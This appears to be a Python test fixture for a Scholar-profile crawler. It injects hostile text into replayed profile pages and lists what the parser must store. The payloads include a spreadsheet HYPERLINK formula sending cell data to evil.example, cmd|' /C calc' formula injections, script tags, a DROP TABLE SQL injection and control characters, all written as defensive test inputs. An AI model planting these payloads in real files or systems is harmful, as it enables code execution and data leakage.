"""Hostile text in Scholar pages: a replay hook that writes payloads into a profile's markup.

The payloads are what a page anyone can edit may carry: formulas a spreadsheet would run
(CSV injection), script tags (escaped as text, and as real markup), control characters (raw
bytes and character references) and SQL metacharacters. :data:`TITLES` pairs each title's
markup with the text a parser must store; authors, venues and the profile's name likewise.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from scholarcrawl.replay.server import FaultHook, ReplayRequest, ReplayResponse

# (markup written into the page, the text that must be stored)
TITLES: tuple[tuple[str, str], ...] = (
    (
        "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;) formula title",
        '=HYPERLINK("http://evil.example/?x="&A1,"Click") formula title',
    ),
    (
        "&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt; an escaped script tag",
        "<script>alert('title')</script> an escaped script tag",
    ),
    (
        "Robert&#39;); DROP TABLE publications;-- and 1=1 OR &quot;x&quot;=&quot;x&quot;",
        'Robert\'); DROP TABLE publications;-- and 1=1 OR "x"="x"',
    ),
    (
        "Control\x07 chars\x1b[31m in red\x7f and &#1;refs&#x9f; here\x0b\x0cend",
        "Control chars[31m in red and refs\u0178 here end",  # &#x9f; is Windows-1252's Ÿ,
    ),
    (
        "@SUM(1+1)*cmd|&#39; /C calc&#39;!A0 at sign title",
        "@SUM(1+1)*cmd|' /C calc'!A0 at sign title",
    ),
)
# real markup inside a title: stored as its text, no tag survives
MARKUP_TITLE = "Markup <script>alert(1)</script><b>injected</b> into <i>a</i> title"
AUTHORS = (("+cmd|&#39; /C calc&#39;!A0, B Evil", "+cmd|' /C calc'!A0, B Evil"),)
VENUES = (
    (
        "-2+3+cmd|&#39; /C calc&#39;!A0 Journal\x00 of Nulls",
        "-2+3+cmd|' /C calc'!A0 Journal of Nulls",
    ),
)
NAME = ("@Evil\x07 &lt;b&gt;Name&lt;/b&gt;", "@Evil <b>Name</b>")

_TITLE = re.compile(rb'(class="gsc_a_at">)[^<]*(</a>)')
_GRAY = re.compile(rb'(<div class="gs_gray">)[^<]*(</div>|<span)')
_NAME = re.compile(rb'(<div id="gsc_prf_in">)[^<]*(</div>)')


def _first(pattern: re.Pattern[bytes], body: bytes, markups: Sequence[str]) -> bytes:
    """``body`` with the text of ``pattern``'s first matches replaced by ``markups``, in order."""
    left = iter(markups)

    def replace(match: re.Match[bytes]) -> bytes:
        markup = next(left, None)
        if markup is None:
            return match.group(0)
        return match.group(1) + markup.encode("utf-8") + match.group(match.lastindex or 0)

    return pattern.sub(replace, body)


def rewrite(body: bytes) -> bytes:
    """The profile page ``body`` with the payloads in its first rows and its header."""
    body = _first(_TITLE, body, [markup for markup, _ in TITLES] + [MARKUP_TITLE])
    body = _first(_GRAY, body, [AUTHORS[0][0], VENUES[0][0]])  # row one's authors, venue
    return _first(_NAME, body, [NAME[0]])


def hostile_profile_page(scholar_id: str) -> FaultHook:
    """A replay hook: the profile pages of ``scholar_id`` carry the payloads."""

    def hook(request: ReplayRequest) -> ReplayResponse | None:
        if request.scholar_id != scholar_id or request.page_kind != "profile":
            return None
        normal = request.route()
        if normal.status != 200:
            return normal
        return ReplayResponse(200, rewrite(normal.body), normal.content_type, normal.headers)

    return hook
